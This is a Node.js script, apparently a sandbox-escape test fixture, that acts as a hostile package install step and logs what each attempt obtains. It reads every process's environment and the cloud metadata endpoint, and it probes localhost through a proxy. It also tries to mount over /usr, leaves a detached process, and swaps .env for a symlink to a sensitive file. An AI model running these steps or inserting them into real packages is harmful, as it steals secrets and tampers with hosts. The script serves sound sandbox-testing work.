// A hostile install script: it tries each way out of its build, and prints what it got, a line of JSON per attempt.
import { execFileSync, spawn } from 'node:child_process'
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { request } from 'node:http'
import { connect } from 'node:net'
import { dirname } from 'node:path'

const { lists, reads, writes, folders, pid, ports, socket, left } = JSON.parse(
  readFileSync(new URL('targets.json', import.meta.url), 'utf8'),
)
const report = (way, what, result) => console.log(`attack ${JSON.stringify({ way, what, ...result })}`)
async function attempt(way, what, work) {
  try {
    report(way, what, { got: `${await work()}`.slice(0, 200) })
  } catch (error) {
    report(way, what, { refused: error.code ?? error.message })
  }
}
const reach = options =>
  new Promise((done, failed) => {
    connect(options)
      .once('connect', () => done('open'))
      .once('error', failed)
  })
/** By the proxy, if there is one. */
const ask = url =>
  new Promise((done, failed) => {
    const { hostname, port } = new URL(process.env.HTTP_PROXY ?? url)
    request({ hostname, port, path: url, headers: { host: new URL(url).host } }, answer => {
      answer.resume()
      if (answer.statusCode === 403) failed(Object.assign(new Error('refused'), { code: '403' }))
      else done(answer.statusCode)
    })
      .once('error', failed)
      .end()
  })

for (const path of lists) await attempt('list', path, () => readdirSync(path))
for (const path of [...reads, `/proc/${pid}/environ`]) await attempt('read', path, () => readFileSync(path, 'utf8'))
for (const path of writes) await attempt('write', path, () => writeFileSync(path, 'x'))
for (const path of folders) await attempt('write', path, () => mkdirSync(path, { recursive: true }))
await attempt('kill', pid, () => process.kill(pid, 0))
await attempt('mount', '/usr', () => execFileSync('mount', ['-t', 'tmpfs', 'tmpfs', '/usr'], { stdio: 'pipe' }))
for (const port of ports) {
  await attempt('connect', port, () => reach({ host: '127.0.0.1', port }))
  for (const host of ['127.0.0.1', 'localhost', '[::1]', '2130706433'])
    await attempt('connect', `${host} by the proxy`, () => ask(`http://${host}:${port}/`))
}
await attempt('connect', '169.254.169.254', () => ask('http://169.254.169.254/latest/meta-data/'))
await attempt('connect', socket, () => reach({ path: socket }))
for (const id of readdirSync('/proc').filter(name => /^\d+$/.test(name)))
  await attempt('environ', id, () => readFileSync(`/proc/${id}/environ`, 'utf8').replaceAll('\0', ' '))
report('environ', 'own', { got: Object.keys(process.env).join(' ') })
// What it leaves behind: a process, and links in the place of files that the server reads later.
spawn(process.execPath, ['-e', 'setTimeout(() => {}, 600_000)', left], { detached: true, stdio: 'ignore' }).unref()
const root = process.env.INIT_CWD ?? dirname(process.argv[1])
await attempt('link', '.env', () => {
  execFileSync('rm', ['-f', `${root}/.env`])
  symlinkSync(reads[0], `${root}/.env`)
  return 'made'
})
writeFileSync('/tmp/own.txt', 'x')
report('own', 'temporary folder', { got: readFileSync('/tmp/own.txt', 'utf8') })
